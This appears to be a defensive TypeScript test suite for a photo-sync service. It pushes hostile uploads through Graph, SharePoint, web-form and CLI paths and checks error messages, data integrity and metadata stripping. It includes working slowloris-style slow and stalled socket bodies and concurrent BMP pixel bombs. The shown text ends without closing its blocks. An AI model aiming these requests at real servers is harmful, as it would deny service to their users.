import assert from 'node:assert/strict';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { LightMyRequestResponse } from 'fastify';
import sharp from 'sharp';
import type { Person } from '../../src/directory/index.ts';
import { MAX_JPEG_SCANS } from '../../src/imaging/decode-cost.ts';
import { CLI_ACTOR } from '../../src/identity/index.ts';
import { makeBmp } from '../support/bmp.ts';
import { DATABASE_KINDS } from '../support/databases.ts';
import {
  buildHostileCorpus,
  UPLOAD_PATHS,
  type Expectation,
  type HostileCorpus,
  type HostileItem,
  type UploadPath,
} from '../support/hostile-corpus.ts';
import { makePhoto } from '../support/images.ts';
import { fuzzCases, Prng, type BaseFile } from '../support/mutation-fuzzer.ts';
import { makeScanBombJpeg } from '../support/scan-bomb.ts';
import { runPhotosync, type CliRun } from '../support/run-cli.ts';
import { snapshotPhotoTables } from '../support/sync-fixtures.ts';
import { bearer, startTestApp, type TestApp } from '../support/test-app.ts';

/*
 * Hostile input through every upload path, and hostile query strings, headers, form fields, CSV
 * files and CLI arguments: never a 5xx, always a clear message, nothing damaged, no metadata served.
 * Each test collects every failure it sees and fails once at the end with the whole list, so one run
 * shows all of them.
 */

const ADA = 'ada@contoso.example';
const ADMIN = 'admin@contoso.example';
const GRACE = 'grace@contoso.example';
const SP_SET_PICTURE = '/_api/SP.UserProfiles.PeopleManager/SetMyProfilePicture';

// ------------------------------------------------------------------------------------------------
// Messages

const decodeEntities = (text: string) =>
  text
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');

/** Why a message is not one a person can act on, or undefined when it is fine. */
function unclear(message: string | undefined, options: { sentence?: boolean } = {}): string | undefined {
  if (message === undefined || message.trim() === '') return 'there is no message';
  const m = message.trim();
  if (m.length > 2000) return `the message is ${m.length} characters long (it echoes the input back)`;
  if (m.split(/\s+/).length < 3) return `"${m}" is too short to tell a person what to do`;
  if (/something went wrong|internal server error/i.test(m)) return `"${m.slice(0, 200)}" is the generic 500 message`;
  if (
    /\n\s+at \S|TypeError|RangeError|ReferenceError|ERR_[A-Z_]{3,}|FST_[A-Z_]{3,}|libvips|vips_|VipsJpeg|SQLITE|invalid byte sequence|\[object |native code|\bundefined\b/.test(
      m,
    )
  ) {
    return `"${m.slice(0, 200)}" leaks internals`;
  }
  const sameSize = /is ([\d.]+ [KM]B); the limit is \1/.exec(m);
  if (sameSize) return `"${m}" says the photo is as large as the limit it exceeds`;
  if (options.sentence !== false && (!/^[A-Z"'“(0-9]/.test(m) || !/[.!?)"”]$/.test(m)))
    return `"${m.slice(0, 200)}" is not a sentence a person would read (library wording?)`;
  return undefined;
}

/** Graph's error body: `{"error":{"code":…,"message":…}}` with an application/json type. */
function graphError(response: LightMyRequestResponse): { code?: string; message?: string; problem?: string } {
  const type = String(response.headers['content-type'] ?? '');
  let body: { error?: { code?: unknown; message?: unknown } } | undefined;
  try {
    body = JSON.parse(response.body);
  } catch {
    return { problem: `the body is not JSON (content-type ${type}): ${response.body.slice(0, 200)}` };
  }
  const error = body?.error;
  if (!error || typeof error !== 'object' || typeof error.code !== 'string' || typeof error.message !== 'string') {
    return { problem: `the body is not Graph's error shape {"error":{"code","message"}}: ${response.body.slice(0, 300)}` };
  }
  if (type.split(';')[0]!.trim() !== 'application/json')
    return { code: error.code, message: error.message, problem: `content-type is "${type}", not application/json` };
  return { code: error.code, message: error.message };
}

/** The role="alert" text of a portal page. */
function pageAlert(response: LightMyRequestResponse): { message?: string; problem?: string } {
  const type = String(response.headers['content-type'] ?? '');
  if (!type.startsWith('text/html')) return { problem: `content-type is "${type}", not an HTML page: ${response.body.slice(0, 200)}` };
  const match = /role="alert"[^>]*>([\s\S]*?)<\/p>/.exec(response.body);
  if (!match) return { problem: 'the page has no role="alert" message' };
  return { message: decodeEntities(match[1]!.replace(/<[^>]+>/g, '').trim()) };
}

/** The CLI's one-line error on stderr ("photosync: …" or commander's "error: …"). */
function cliMessage(run: CliRun): string | undefined {
  const lines = run.stderr
    .split('\n')
    .map((l) => l.trim())
    .filter(Boolean);
  return lines.length === 0 ? undefined : lines.join(' ').replace(/^photosync: /, '');
}

// ------------------------------------------------------------------------------------------------
// Multipart

const BOUNDARY = '----hostile-input-boundary-7d1f';

function multipartBody(
  parts: ({ name: string; value: string } | { name: string; filename: string; type: string; bytes: Buffer })[],
  boundary = BOUNDARY,
): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    if ('value' in part) {
      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"\r\n\r\n${part.value}\r\n`));
    } else {
      chunks.push(
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"; filename="${part.filename}"\r\nContent-Type: ${part.type}\r\n\r\n`,
          'latin1',
        ),
      );
      chunks.push(part.bytes, Buffer.from('\r\n'));
    }
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

const csrfIn = (body: string) => /name="_csrf" value="([^"]+)"/.exec(body)?.[1] ?? '';

// ------------------------------------------------------------------------------------------------
// The world every hostile test starts from

interface World {
  t: TestApp;
  ada: Person;
  admin: Person;
  grace: Person;
  adaToken: string;
  adminToken: string;
  graceToken: string;
  adaCookie: string;
  dir: string;
  known: Buffer;
  cli(args: string[], stdin?: string): Promise<CliRun>;
}

async function startWorld(kind: 'sqlite' | 'postgres', known: Buffer): Promise<World> {
  const t = await startTestApp(kind);
  const ada = await t.addPerson(ADA);
  const admin = await t.addPerson(ADMIN, { role: 'admin' });
  const grace = await t.addPerson(GRACE);
  const world: World = {
    t,
    ada,
    admin,
    grace,
    adaToken: await t.tokenFor(ada),
    adminToken: await t.tokenFor(admin),
    graceToken: await t.tokenFor(grace),
    adaCookie: await t.signIn(ADA),
    dir: fs.mkdtempSync(path.join(os.tmpdir(), 'photosync-hostile-')),
    known,
    cli: (args, stdin) => runPhotosync(args, t.env, stdin),
  };
  const put = await t.app.inject({
    method: 'PUT',
    url: `/v1.0/users/${ADA}/photo/$value`,
    headers: bearer(world.adminToken),
    payload: known,
  });
  assert.equal(put.statusCode, 200, put.body);
  return world;
}

async function stopWorld(world: World | undefined): Promise<void> {
  if (!world) return;
  await world.t.close();
  fs.rmSync(world.dir, { recursive: true, force: true });
}

interface PhotoState {
  etag: string;
  valueEtag: string;
  bytes: Buffer;
}

/** The person's current Mail photo as a Graph client sees it (metadata ETag, $value ETag and bytes). */
async function photoState(w: World, upn: string): Promise<PhotoState | string> {
  w.t.services.mail.forgetCachedPhoto((await w.t.services.directory.getPerson(upn)).id);
  const meta = await w.t.app.inject({ method: 'GET', url: `/v1.0/users/${upn}/photo`, headers: bearer(w.adminToken) });
  if (meta.statusCode !== 200) return `GET /v1.0/users/${upn}/photo answered ${meta.statusCode}: ${meta.body.slice(0, 200)}`;
  const value = await w.t.app.inject({ method: 'GET', url: `/v1.0/users/${upn}/photo/$value`, headers: bearer(w.adminToken) });
  if (value.statusCode !== 200) return `GET /v1.0/users/${upn}/photo/$value answered ${value.statusCode}`;
  return { etag: meta.json()['@odata.mediaEtag'], valueEtag: String(value.headers.etag), bytes: value.rawPayload };
}

function sameState(before: PhotoState, now: PhotoState | string): string | undefined {
  if (typeof now === 'string') return now;
  if (now.etag !== before.etag) return `the photo's ETag changed from ${before.etag} to ${now.etag}`;
  if (now.valueEtag !== before.valueEtag) return `the $value ETag changed from ${before.valueEtag} to ${now.valueEtag}`;
  if (!now.bytes.equals(before.bytes)) return 'the photo bytes changed';
  return undefined;
}

/**
 * Every stored rendition of the person's photo: listed by GET …/photos, each a square JPEG of its
 * size that decodes cleanly, with no EXIF, XMP, IPTC, ICC or comment, and none of the `mustNotLeak`
 * strings. Returns the problems and the largest rendition.
 */
async function storedPhotoProblems(
  w: World,
  upn: string,
  mustNotLeak: readonly (string | Buffer)[] = [],
): Promise<{ problems: string[]; largest?: Buffer }> {
  const problems: string[] = [];
  w.t.services.mail.forgetCachedPhoto((await w.t.services.directory.getPerson(upn)).id);
  const list = await w.t.app.inject({ method: 'GET', url: `/v1.0/users/${upn}/photos`, headers: bearer(w.adminToken) });
  if (list.statusCode !== 200) return { problems: [`GET …/photos answered ${list.statusCode}: ${list.body.slice(0, 200)}`] };
  const sizes = (list.json().value as { id: string; width: number; height: number }[]) ?? [];
  if (sizes.length === 0) problems.push('no rendition is listed');
  let largest: Buffer | undefined;
  for (const size of sizes) {
    const got = await w.t.app.inject({ method: 'GET', url: `/v1.0/users/${upn}/photos/${size.id}/$value`, headers: bearer(w.adminToken) });
    if (got.statusCode !== 200) {
      problems.push(`${size.id}: GET answered ${got.statusCode}`);
      continue;
    }
    const bytes = got.rawPayload;
    largest ??= bytes;
    try {
      const meta = await sharp(bytes).metadata();
      if (meta.format !== 'jpeg') problems.push(`${size.id}: served as ${meta.format}, not JPEG`);
      if (meta.width !== size.width || meta.height !== size.height) problems.push(`${size.id}: is ${meta.width}×${meta.height}`);
      for (const key of ['exif', 'xmp', 'iptc', 'icc', 'comments'] as const) {
        if ((meta as unknown as Record<string, unknown>)[key] !== undefined) problems.push(`${size.id}: carries ${key} metadata`);
      }
      if (meta.channels !== 3 || meta.space !== 'srgb')
        problems.push(`${size.id}: is ${meta.space} with ${meta.channels} channels, not 3-channel sRGB`);
      await sharp(bytes, { failOn: 'warning' }).raw().toBuffer();
    } catch (error) {
      problems.push(`${size.id}: does not decode: ${(error as Error).message}`);
    }
    for (const marker of mustNotLeak) {
      if (bytes.includes(marker)) problems.push(`${size.id}: contains "${String(marker)}" from the upload`);
    }
  }
  return { problems, largest };
}

/** Sites' S/M/L for the person, read with the admin's token (which never triggers a sync). */
async function siteThumbnailProblems(w: World, upn: string, mustNotLeak: readonly (string | Buffer)[]): Promise<string[]> {
  const problems: string[] = [];
  for (const size of ['S', 'M', 'L']) {
    const got = await w.t.app.inject({
      method: 'GET',
      url: `/_layouts/15/userphoto.aspx?size=${size}&accountname=${upn}`,
      headers: bearer(w.adminToken),
    });
    if (got.statusCode !== 200) {
      problems.push(`Sites ${size}: answered ${got.statusCode}`);
      continue;
    }
    const meta = await sharp(got.rawPayload)
      .metadata()
      .catch((e: Error) => e);
    if (meta instanceof Error) problems.push(`Sites ${size}: does not decode`);
    else if (meta.exif || meta.xmp || meta.iptc) problems.push(`Sites ${size}: carries metadata`);
    for (const marker of mustNotLeak) if (got.rawPayload.includes(marker)) problems.push(`Sites ${size}: contains "${String(marker)}"`);
  }
  return problems;
}

async function restoreKnown(w: World, upn = ADA): Promise<void> {
  const put = await w.t.app.inject({
    method: 'PUT',
    url: `/v1.0/users/${upn}/photo/$value`,
    headers: bearer(w.adminToken),
    payload: w.known,
  });
  assert.equal(put.statusCode, 200, `restoring the known photo: ${put.body}`);
}

// ------------------------------------------------------------------------------------------------
// One upload through one path

interface UploadOutcome {
  accepted: boolean;
  rejected: boolean;
  /** HTTP status or CLI exit code, for the report. */
  seen: string;
  status?: number;
  exitCode?: number;
  message?: string;
  /** Problems with the answer's form (wrong body shape, no alert, …). */
  problems: string[];
}

async function uploadThrough(
  w: World,
  uploadPath: UploadPath,
  item: { slug: string; ext: string; bytes: Buffer; contentType?: string },
): Promise<UploadOutcome> {
  const { t } = w;
  const problems: string[] = [];
  if (uploadPath === 'cli-photo-set') {
    const file = path.join(w.dir, `${item.slug}.${item.ext}`);
    fs.writeFileSync(file, item.bytes);
    const run = await w.cli(['photo', 'set', ADA, file]);
    fs.rmSync(file, { force: true });
    const message = run.code === 0 ? undefined : cliMessage(run);
    if (run.code !== 0) {
      if (run.code !== 1 && run.code !== 2) problems.push(`exit code ${run.code} (expected 1 or 2)`);
      const why = unclear(message);
      if (why) problems.push(`unclear message: ${why}`);
      if (/\n\s+at /.test(run.stderr)) problems.push('a stack trace on stderr');
    }
    return {
      accepted: run.code === 0,
      rejected: run.code === 1 || run.code === 2,
      seen: `exit ${run.code}`,
      exitCode: run.code,
      ...(message !== undefined && { message }),
      problems,
    };
  }

  let response: LightMyRequestResponse;
  if (uploadPath === 'mail-form') {
    const page = await t.app.inject({ method: 'GET', url: '/mail/photo', headers: { cookie: w.adaCookie } });
    const payload = multipartBody([
      { name: '_csrf', value: csrfIn(page.body) },
      {
        name: 'photo',
        filename: `${item.slug}.${item.ext}`,
        type: item.contentType ?? (item.ext === 'png' ? 'image/png' : 'image/jpeg'),
        bytes: item.bytes,
      },
    ]);
    response = await t.app.inject({
      method: 'POST',
      url: '/mail/photo',
      headers: { cookie: w.adaCookie, 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, accept: 'text/html' },
      payload,
    });
  } else if (uploadPath === 'set-my-profile-picture') {
    response = await t.app.inject({
      method: 'POST',
      url: SP_SET_PICTURE,
      // PnPjs sends X-RequestDigest with every POST; a session without it is refused (CSRF), see the header probes.
      headers: {
        cookie: w.adaCookie,
        'x-requestdigest': '0x1234,25 Nov 2026 10:00:00 -0000',
        'content-type': item.contentType ?? 'application/json;charset=utf-8',
        accept: 'application/json',
      },
      payload: item.bytes,
    });
  } else {
    const method = uploadPath.startsWith('graph-put') ? 'PUT' : 'PATCH';
    const url = uploadPath.endsWith('-me')
      ? '/v1.0/me/photo/$value'
      : uploadPath === 'graph-put-user'
        ? `/v1.0/users/${ADA}/photo/$value`
        : `/v1.0/users/${w.ada.id}/photo/$value`;
    const token = uploadPath === 'graph-put-user' ? w.adminToken : w.adaToken;
    response = await t.app.inject({
      method,
      url,
      headers: { ...bearer(token), 'content-type': item.contentType ?? 'image/jpeg' },
      payload: item.bytes,
    });
  }

  const status = response.statusCode;
  const accepted =
    uploadPath === 'mail-form'
      ? status === 303 && /^\/mail\/photo\?done=(uploaded|unchanged)$/.test(String(response.headers.location))
      : status === 200;
  const rejected = status >= 400 && status < 500;
  let message: string | undefined;
  if (status >= 400) {
    const read = uploadPath === 'mail-form' ? pageAlert(response) : graphError(response);
    message = read.message;
    if (read.problem) problems.push(read.problem);
    const why = unclear(message);
    if (why) problems.push(`unclear message: ${why}`);
  } else if (!accepted) {
    problems.push(`neither accepted nor refused: ${status} ${String(response.headers.location ?? '')} ${response.body.slice(0, 200)}`);
  }
  return { accepted, rejected, seen: String(status), status, ...(message !== undefined && { message }), problems };
}

/**
 * Sends one item through one path and checks everything the requirement asks; returns the failures
 * (empty when all is well) and what happened, for the tally.
 */
async function checkUpload(
  w: World,
  uploadPath: UploadPath,
  item: HostileItem,
  baseline: { snapshot: string; state: PhotoState },
): Promise<{ failures: string[]; outcome: UploadOutcome; changed: boolean }> {
  const expect: Expectation = item.expect(uploadPath);
  const failures: string[] = [];
  const fail = (what: string) => failures.push(`[${uploadPath}] ${item.name}: ${what}`);
  const outcome = await uploadThrough(w, uploadPath, item);
  for (const problem of outcome.problems) fail(`${problem} (saw ${outcome.seen})`);
  if (outcome.status !== undefined && outcome.status >= 500) fail(`a ${outcome.status} (server error): ${outcome.message ?? ''}`);

  if (outcome.rejected) {
    if (expect.outcome === 'accept')
      fail(`refused with ${outcome.seen} "${outcome.message}", but it is a valid photo and must be accepted`);
    if (expect.outcome === 'reject' && expect.status && outcome.status !== undefined && outcome.status !== expect.status) {
      fail(`status ${outcome.status}, expected ${expect.status} ("${outcome.message}")`);
    }
    if (expect.outcome !== 'accept' && expect.message && !expect.message.test(outcome.message ?? '')) {
      fail(`message "${outcome.message}" does not match ${expect.message}`);
    }
    const snapshot = await snapshotPhotoTables(w.t);
    if (snapshot !== baseline.snapshot)
      fail(
        `the database changed (photo tables, Sites, audit log) although the upload was refused: ${snapshotDiff(baseline.snapshot, snapshot)}`,
      );
    const damage = sameState(baseline.state, await photoState(w, ADA));
    if (damage) fail(`the previous photo is not intact: ${damage}`);
  }

  let changed = false;
  if (outcome.accepted) {
    changed = true;
    if (expect.outcome === 'reject') fail(`accepted (${outcome.seen}), expected a refusal${expect.status ? ` with ${expect.status}` : ''}`);
    const { problems, largest } = await storedPhotoProblems(w, ADA, item.mustNotLeak);
    for (const p of problems) fail(`stored photo: ${p}`);
    if (largest && item.checkStored) {
      const why = await item.checkStored(largest);
      if (why) fail(`stored photo: ${why}`);
    }
    if (uploadPath === 'set-my-profile-picture') for (const p of await siteThumbnailProblems(w, ADA, item.mustNotLeak ?? [])) fail(p);
  }
  const health = await w.t.app.inject({ method: 'GET', url: '/healthz' });
  if (health.statusCode !== 200) fail(`/healthz answered ${health.statusCode} afterwards`);
  return { failures, outcome, changed };
}

/** The first rows that differ between two snapshots, shortened, for a failure message. */
function snapshotDiff(before: string, now: string): string {
  const a = new Set(before.split('\n'));
  const b = new Set(now.split('\n'));
  const added = [...b]
    .filter((l) => !a.has(l))
    .slice(0, 2)
    .map((l) => `+ ${l.slice(0, 160)}`);
  const removed = [...a]
    .filter((l) => !b.has(l))
    .slice(0, 2)
    .map((l) => `- ${l.slice(0, 160)}`);
  return [...removed, ...added].join(' | ');
}

function report(title: string, failures: string[]): void {
  if (failures.length === 0) return;
  console.log(`\n# ${title}: ${failures.length} failure(s)`);
  for (const f of failures) console.log(`#   ${f.replace(/\n/g, ' ')}`);
}

// ------------------------------------------------------------------------------------------------

let corpusPromise: Promise<HostileCorpus> | undefined;
const corpus = () => (corpusPromise ??= buildHostileCorpus());

for (const { kind, skip } of DATABASE_KINDS) {
  describe(`hostile uploads on ${kind}: the corpus through every upload path`, { skip }, () => {
    let w: World | undefined;
    let c: HostileCorpus;

    before(async () => {
      c = await corpus();
      w = await startWorld(kind, c.known);
    });
    after(() => stopWorld(w));

    for (const uploadPath of UPLOAD_PATHS.filter((p) => p !== 'bulk-import')) {
      test(`${uploadPath}: never a 5xx, a clear message, the previous photo intact, no metadata served`, async () => {
        const world = w!;
        const failures: string[] = [];
        const tally = new Map<string, number>();
        let baseline = { snapshot: await snapshotPhotoTables(world.t), state: (await photoState(world, ADA)) as PhotoState };
        assert.equal(typeof baseline.state, 'object', 'the known photo is readable');
        const started = performance.now();
        for (const item of c.items) {
          const { failures: found, outcome, changed } = await checkUpload(world, uploadPath, item, baseline);
          failures.push(...found);
          const key = outcome.accepted ? 'accepted' : `refused ${outcome.seen}`;
          tally.set(key, (tally.get(key) ?? 0) + 1);
          if (changed) {
            await restoreKnown(world);
            const restored = sameState(baseline.state, await photoState(world, ADA));
            if (restored) failures.push(`[${uploadPath}] ${item.name}: restoring the known photo afterwards: ${restored}`);
            baseline = { snapshot: await snapshotPhotoTables(world.t), state: (await photoState(world, ADA)) as PhotoState };
          }
        }
        console.log(
          `# ${kind} ${uploadPath}: ${c.items.length} items in ${Math.round(performance.now() - started)} ms: ${[...tally].map(([k, n]) => `${n} ${k}`).join(', ')}`,
        );
        report(`${kind} ${uploadPath}`, failures);
        assert.deepEqual(failures, [], `${failures.length} failure(s) on ${uploadPath}`);
      });
    }

    test('bulk import (photos import --dir): each corpus file gets a result, bad ones never touch a photo, exit 1', async () => {
      const world = w!;
      const failures: string[] = [];
      const dir = path.join(world.dir, 'import');
      fs.mkdirSync(dir);
      const smallKnown = await makePhoto('jpeg', 100, 100, { color: '#5a5a5a' });
      const people: { item: HostileItem; person: Person; file: string }[] = [];
      for (const [index, item] of c.items.entries()) {
        const upn = `import-${String(index).padStart(3, '0')}@contoso.example`;
        const person = await world.t.services.directory.addPerson({ userPrincipalName: upn });
        await world.t.services.mail.setPhoto(CLI_ACTOR, person, smallKnown, 'cli');
        const file = `${upn}.${item.ext}`;
        fs.writeFileSync(path.join(dir, file), item.bytes);
        people.push({ item, person, file });
      }
      const states = new Map<string, PhotoState>();
      for (const { person } of people) states.set(person.id, (await photoState(world, person.userPrincipalName)) as PhotoState);

      // A dry run first: it judges every file the same way and changes nothing.
      const snapshot = await snapshotPhotoTables(world.t);
      const dry = await world.cli(['photos', 'import', '--dir', dir, '--dry-run', '--json']);
      if (dry.code !== 1) failures.push(`dry run: exit ${dry.code}, expected 1 (some files are bad): ${dry.stderr.slice(0, 300)}`);
      if ((await snapshotPhotoTables(world.t)) !== snapshot) failures.push('dry run: the database changed');
      let dryReport: { files: { file: string; outcome: string; reason: string | null }[] } | undefined;
      try {
        dryReport = JSON.parse(dry.stdout);
      } catch {
        failures.push(`dry run: stdout is not the JSON report: ${dry.stdout.slice(0, 300)} ${dry.stderr.slice(0, 300)}`);
      }

      const started = performance.now();
      const run = await world.cli(['photos', 'import', '--dir', dir, '--json']);
      const ms = Math.round(performance.now() - started);
      if (run.code !== 1) failures.push(`import: exit ${run.code}, expected 1 (some files are bad): ${run.stderr.slice(0, 300)}`);
      if (/\n\s+at /.test(run.stderr)) failures.push('import: a stack trace on stderr');
      let importReport: { files: { file: string; outcome: string; reason: string | null; userPrincipalName: string | null }[] } | undefined;
      try {
        importReport = JSON.parse(run.stdout);
      } catch {
        failures.push(`import: stdout is not the JSON report: ${run.stdout.slice(0, 300)} ${run.stderr.slice(0, 300)}`);
      }
      const tally = new Map<string, number>();
      for (const { item, person, file } of people) {
        const fail = (what: string) => failures.push(`[bulk-import] ${item.name} (${file}): ${what}`);
        const expect = item.expect('bulk-import');
        const result = importReport?.files.find((f) => f.file === file);
        const dryResult = dryReport?.files.find((f) => f.file === file);
        if (!result) {
          fail('no result for this file');
          continue;
        }
        tally.set(result.outcome, (tally.get(result.outcome) ?? 0) + 1);
        if (dryResult && (dryResult.outcome === 'would-import') !== (result.outcome === 'imported')) {
          fail(`the dry run said ${dryResult.outcome}, the import did ${result.outcome}`);
        }
        if (result.outcome === 'bad-image') {
          if (expect.outcome === 'accept') fail(`refused ("${result.reason}") but it is a valid photo`);
          if (expect.message && expect.outcome !== 'accept' && !expect.message.test(result.reason ?? ''))
            fail(`reason "${result.reason}" does not match ${expect.message}`);
          const why = unclear(result.reason ?? undefined);
          if (why) fail(`unclear reason: ${why}`);
          const damage = sameState(states.get(person.id)!, await photoState(world, person.userPrincipalName));
          if (damage) fail(`the person's previous photo is not intact: ${damage}`);
        } else if (result.outcome === 'imported') {
          if (expect.outcome === 'reject') fail('imported, expected bad-image');
          const { problems, largest } = await storedPhotoProblems(world, person.userPrincipalName, item.mustNotLeak);
          for (const p of problems) fail(`stored photo: ${p}`);
          if (largest && item.checkStored) {
            const why = await item.checkStored(largest);
            if (why) fail(`stored photo: ${why}`);
          }
        } else {
          fail(`outcome ${result.outcome} (${result.reason}), expected bad-image or imported`);
        }
      }
      console.log(`# ${kind} bulk-import: ${people.length} files in ${ms} ms: ${[...tally].map(([k, n]) => `${n} ${k}`).join(', ')}`);
      assert.equal((await world.t.app.inject({ method: 'GET', url: '/healthz' })).statusCode, 200);
      report(`${kind} bulk-import`, failures);
      assert.deepEqual(failures, []);
    });
  });

  describe(`slow and oversized bodies on ${kind}, over a real socket`, { skip }, () => {
    let w: World | undefined;
    let base: string;
    let port: number;

    before(async () => {
      w = await startWorld(kind, await makePhoto('jpeg', 700, 700, { color: '#445566', marker: '#ccbb22' }));
      base = await w.t.app.listen({ port: 0, host: '127.0.0.1' });
      port = Number(new URL(base).port);
    });
    after(() => stopWorld(w));

    /** Raw HTTP/1.1 over a socket: headers at once, the body as the caller writes it. */
    const rawRequest = (head: string) => {
      const socket = net.connect(port, '127.0.0.1');
      let received = '';
      socket.on('data', (c: Buffer) => (received += c.toString('latin1')));
      const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()));
      socket.on('error', () => {});
      socket.write(head);
      return { socket, closed, received: () => received };
    };

    /** How long other requests take while something else is going on: /healthz and a photo read. */
    const probeOthers = async (until: () => boolean, failures: string[], what: string) => {
      const latencies: number[] = [];
      while (!until()) {
        const started = performance.now();
        const [health, photo] = await Promise.all([
          fetch(`${base}/healthz`),
          fetch(`${base}/v1.0/users/${ADMIN}/photo`, { headers: bearer(w!.adminToken) }),
        ]);
        await health.arrayBuffer();
        await photo.arrayBuffer();
        latencies.push(performance.now() - started);
        if (health.status !== 200) failures.push(`${what}: /healthz answered ${health.status}`);
        if (photo.status !== 404 && photo.status !== 200) failures.push(`${what}: a photo read answered ${photo.status}`);
        await new Promise((r) => setTimeout(r, 150));
      }
      const worst = Math.max(0, ...latencies);
      if (latencies.length === 0) failures.push(`${what}: no request was tried`);
      if (worst > 1500) failures.push(`${what}: another request waited ${Math.round(worst)} ms`);
      return worst;
    };

    test('a valid JPEG sent slowly (512-byte chunks every 40 ms) is stored or refused with a clear 4xx, and others are served meanwhile', async () => {
      const world = w!;
      const failures: string[] = [];
      // Noise does not compress: about 40 KB of JPEG, so 512-byte chunks every 40 ms take seconds.
      const slow = await sharp(new Prng(11).bytes(160 * 160 * 3), { raw: { width: 160, height: 160, channels: 3 } })
        .jpeg({ quality: 95 })
        .toBuffer();
      const { socket, closed, received } = rawRequest(
        `PUT /v1.0/me/photo/$value HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${world.adaToken}\r\nContent-Type: image/jpeg\r\nContent-Length: ${slow.length}\r\nConnection: close\r\n\r\n`,
      );
      let done = false;
      const writing = (async () => {
        for (let at = 0; at < slow.length && !socket.destroyed; at += 512) {
          socket.write(slow.subarray(at, at + 512));
          await new Promise((r) => setTimeout(r, 40));
        }
      })();
      // Another person's upload and reads go through while the slow body trickles in.
      const graceUpload = fetch(`${base}/v1.0/me/photo/$value`, {
        method: 'PUT',
        headers: { ...bearer(world.graceToken), 'content-type': 'image/jpeg' },
        body: new Uint8Array(await makePhoto('jpeg', 200, 200)),
      });
      const probing = probeOthers(() => done, failures, 'during a slow upload');
      const graceStarted = performance.now();
      const graceStatus = (await graceUpload).status;
      const graceMs = performance.now() - graceStarted;
      if (graceStatus !== 200) failures.push(`another person's upload during the slow one answered ${graceStatus}`);
      if (graceMs > 3000) failures.push(`another person's upload waited ${Math.round(graceMs)} ms behind the slow one`);
      await writing;
      await Promise.race([closed, new Promise((r) => setTimeout(r, 15_000))]);
      done = true;
      const worst = await probing;
      const status = Number(/^HTTP\/1\.1 (\d{3})/.exec(received())?.[1]);
      console.log(
        `# ${kind} slow upload (${slow.length} bytes over ~${Math.round((slow.length / 512) * 40)} ms): ${status}; others waited at most ${Math.round(worst)} ms`,
      );
      if (!(status === 200 || (status >= 400 && status < 500))) failures.push(`the slow upload got "${received().slice(0, 200)}"`);
      if (status >= 400 && !/"message"/.test(received())) failures.push('the slow upload was refused without a message');
      if (status === 200) {
        const { problems } = await storedPhotoProblems(world, ADA);
        failures.push(...problems.map((p) => `slow upload stored: ${p}`));
        await restoreKnown(world);
      }
      socket.destroy();
      report(`${kind} slow body`, failures);
      assert.deepEqual(failures, []);
    });

    test('a stalled body (headers, then 1 KB of 20 KB, then silence) blocks nobody, changes nothing, and is cut off by a request timeout', async () => {
      const world = w!;
      const failures: string[] = [];
      const before = (await photoState(world, ADA)) as PhotoState;
      const snapshot = await snapshotPhotoTables(world.t);
      const jpeg = await makePhoto('jpeg', 400, 400, { color: '#119911' });
      const { socket, received } = rawRequest(
        `PUT /v1.0/me/photo/$value HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${world.adaToken}\r\nContent-Type: image/jpeg\r\nContent-Length: ${jpeg.length + 10_000}\r\n\r\n`,
      );
      socket.write(jpeg.subarray(0, 1024));
      const started = performance.now();
      await probeOthers(() => performance.now() - started > 1500, failures, 'during a stalled upload');
      if (received() !== '') failures.push(`the stalled upload was answered before its body arrived: ${received().slice(0, 100)}`);
      socket.destroy();
      await new Promise((r) => setTimeout(r, 100));
      const damage = sameState(before, await photoState(world, ADA));
      if (damage) failures.push(`after a stalled, abandoned upload: ${damage}`);
      if ((await snapshotPhotoTables(world.t)) !== snapshot) failures.push('after a stalled, abandoned upload: the database changed');
      // Nobody waits minutes in a test; the server's own limit is what cuts a stalled body off (408).
      const server = world.t.app.server;
      if (!(server.requestTimeout > 0 && server.requestTimeout <= 300_000)) {
        failures.push(
          `a stalled upload is never cut off: the HTTP server's requestTimeout is ${server.requestTimeout} ms (fastify's requestTimeout/connectionTimeout are unset), so a slow client can hold a connection and its partial body forever`,
        );
      }
      report(`${kind} stalled body`, failures);
      assert.deepEqual(failures, []);
    });

    test('BMP pixel bombs (1-bit 6000×6000, 4.5 MB each) sent to SetMyProfilePicture at once do not stall everyone else', async () => {
      const world = w!;
      const failures: string[] = [];
      const corpusItems = (await corpus()).items;
      const bomb = corpusItems.find((i) => i.slug === 'bmp-bomb')!.bytes;
      const delay = monitorEventLoopDelay({ resolution: 10 });
      delay.enable();
      let done = false;
      const uploads = Promise.all(
        Array.from({ length: 3 }, () =>
          fetch(`${base}${SP_SET_PICTURE}`, {
            method: 'POST',
            headers: { cookie: world.adaCookie, 'x-requestdigest': 'digest', 'content-type': 'application/json;charset=utf-8' },
            body: new Uint8Array(bomb),
          }).then(async (r) => {
            await r.arrayBuffer();
            return r.status;
          }),
        ),
      ).finally(() => (done = true));
      const worst = await probeOthers(() => done, failures, 'during three BMP pixel bombs');
      const statuses = await uploads;
      delay.disable();
      const blocked = delay.max / 1e6;
      console.log(
        `# ${kind} 3 BMP bombs via SetMyProfilePicture: ${statuses.join(', ')}; others waited at most ${Math.round(worst)} ms; the event loop was blocked up to ${Math.round(blocked)} ms`,
      );
      for (const status of statuses)
        if (!(status === 200 || status === 503 || (status >= 400 && status < 500))) failures.push(`a BMP bomb upload answered ${status}`);
      if (blocked > 300) {
        failures.push(
          `the event loop was blocked for ${Math.round(blocked)} ms at a time: the BMP is decoded pixel by pixel in JavaScript (decodeBmp, via convertBmpToPng) on the main thread and outside the image work queue, so a few 4.5 MB uploads stall every request and the 503 bound never applies`,
        );
      }
      await restoreKnown(world);
      report(`${kind} BMP bombs`, failures);
      assert.deepEqual(failures, []);
    });

